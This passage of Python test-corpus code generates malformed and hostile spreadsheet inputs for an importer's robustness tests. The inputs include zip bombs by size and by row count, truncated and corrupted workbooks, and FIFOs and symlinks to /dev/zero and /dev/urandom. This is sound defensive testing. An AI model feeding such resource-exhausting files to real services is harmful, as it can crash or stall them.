            sheets = [{"xml": sheet_xml(order)}]  # read as stored, or refused: never a row lost
            lines, all_valid, exits = {4: lines[2], 2: lines[3], 3: lines[4]}, True, (0, 2)
        elif kind == 2:
            sheets = [{"xml": CHART, "chart": True, "name": "Chart1"}, {"xml": sheet_xml([(1, header), *body])}]
            what = "a chartsheet first"
        elif kind == 3:
            sheets = [{"xml": sheet_xml([(1, header), *body], main=STRICT_MAIN)}]
            strict, what = True, "strict OOXML"
        elif kind == 4:
            sheets = [{"xml": sheet_xml([(1, ["code", "label"]), (2, ["M", "male"])]), "state": "hidden",
                       "name": "Lists"}, {"xml": sheet_xml([(1, header), *body])}]
            what = "a hidden first sheet"
        elif kind == 5:
            body[1][1][date_col] = ("d", "99999999")
            sheets = [{"xml": sheet_xml([(1, header), *body])}]
            what = "a date serial out of range"
        elif kind == 6:
            body[1][1][date_col] = ("d", "-5")
            sheets = [{"xml": sheet_xml([(1, header), *body])}]
            what = "a negative date serial"
        elif kind == 7:  # as xlsxwriter and LibreOffice write numbers: not integral text
            digits = f"1{n:04d}567890123456"  # 17 digits, more than a double holds
            body[0][1][person_col] = ("n", f"{digits[0]}.{digits[1:]}E+19")
            body[1][1][person_col] = ("n", f"{10 ** 15 + n}.0")
            body[2][1][person_col] = ("n", f"{10 ** 15 + n + 1}")
            identifiers += [digits, digits[1:], str(10 ** 15 + n), str(10 ** 15 + n + 1)]
            lines = {3: {**lines[3], header[person_col]: str(10 ** 15 + n)},
                     4: {**lines[4], header[person_col]: str(10 ** 15 + n + 1)}}
            sheets = [{"xml": sheet_xml([(1, header), *body])}]
            what = "identifier number cells >= 1e15 (1.2E+19, 1e15 as 1000000000000000.0)"
        elif kind == 8:
            body[1][1][person_col] = ("n", f"{n}.5")
            identifiers.append(f"{n}.5")
            sheets = [{"xml": sheet_xml([(1, header), *body])}]
            lines = {2: lines[2], 4: lines[4]}
            what = "a non-integral number as an identifier"
        elif kind == 9:  # a bomb by size: little to download, more than the limit to unpack
            padding = " " * (MAX_FILE_MB * 1024 * 1024 + 1024)
            xml = sheet_xml([(1, header), *body]).replace("<sheetData>", "<sheetData>" + padding)
            sheets = [{"xml": xml}]
            what, exits = f"a zip bomb: unpacks past {MAX_FILE_MB} MB", (2,)
        elif kind == 10:  # a bomb by rows: small unpacked, but more rows than the limit
            filler = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x</t></is></c></row>'
                             for r in range(5, MAX_ROWS + 100))
            xml = sheet_xml([(1, header), *body]).replace("</sheetData>", filler + "</sheetData>")
            sheets = [{"xml": xml}]
            what, exits = f"{MAX_ROWS + 95:,} rows, over the row limit of {MAX_ROWS:,}", (2,)
        else:  # blank rows past the limit
            filler = "".join(f'<row r="{r}"/>' for r in range(5, MAX_ROWS + 100))
            xml = sheet_xml([(1, header), *body]).replace("</sheetData>", filler + "</sheetData>")
            sheets = [{"xml": xml}]
            what, exits = f"{MAX_ROWS + 95:,} empty rows, over the row limit of {MAX_ROWS:,}", (2,)
        c.add("xlsx", what, source, package(sheets, strict), identifiers=identifiers, rows=lines,
              all_valid=all_valid, exits=exits, count=len(lines) if all_valid else None, suffix=".xlsx")
    # not workbooks, and damaged workbooks
    for i in range(80):
        source = SOURCES[i % 4]
        n = c.n()
        header = list(DEFAULTS[source])
        rows = [row(source, n, k) for k in range(2)]
        identifiers = [x for v in rows for x in ids_of(source, v).values()]
        good = stable(xlsx_bytes([header] + [[v[h] for h in header] for v in rows]))
        kind = i % 8
        if kind == 0:
            data, what = csv_of(header, [[v[h] for h in header] for v in rows]).encode(), "CSV text named .xlsx"
        elif kind == 1:
            data, what = good[: c.random.randrange(30, len(good) - 30)], "a truncated workbook"
        elif kind == 2:
            damaged = bytearray(good)
            for _ in range(8):
                damaged[c.random.randrange(len(damaged))] ^= 0xFF
            data, what = bytes(damaged), "a workbook with bytes flipped"
        elif kind == 3:
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as z:
                put(z, "notes.txt", ",".join(identifiers))
            data, what = buffer.getvalue(), "a zip without a workbook"
        elif kind == 4:
            data, what = b"PK\x03\x04" + identifiers[0].encode() + bytes(200), "a zip header and nothing"
        elif kind == 5:
            data, what = b"<html><body>" + identifiers[0].encode() + b"</body></html>", "HTML named .xlsx"
        elif kind == 6:
            data, what = good[len(good) // 2:], "the second half of a workbook"
        else:
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as z:
                put(z, "[Content_Types].xml", "<Types")
                put(z, "xl/workbook.xml", "<workbook><sheets><sheet")
            data, what = buffer.getvalue(), "a package of broken XML"
        c.add("xlsx_broken", what, source, data, identifiers=identifiers, exits=(2,), suffix=".xlsx")


def special_files(c: Corpus) -> None:
    kinds = [("a FIFO", "fifo"), ("a link to /dev/zero", "/dev/zero"), ("a link to /dev/urandom", "/dev/urandom"),
             ("a directory named victims.csv", "dir"), ("a dangling link", "/nonexistent/victims.csv"),
             ("a link to /dev/null", "/dev/null")]
    for what, target in kinds:
        case = c.add("special_files", what, "victims", None, exits=(0, 1, 2))
        case.special = True
        path = case.path
        if target == "fifo":
            os.mkfifo(path)
        elif target == "dir":
            path.mkdir()
            (path / "victims.csv").write_text("victim_id\nV1\n")
        else:
            path.symlink_to(target)
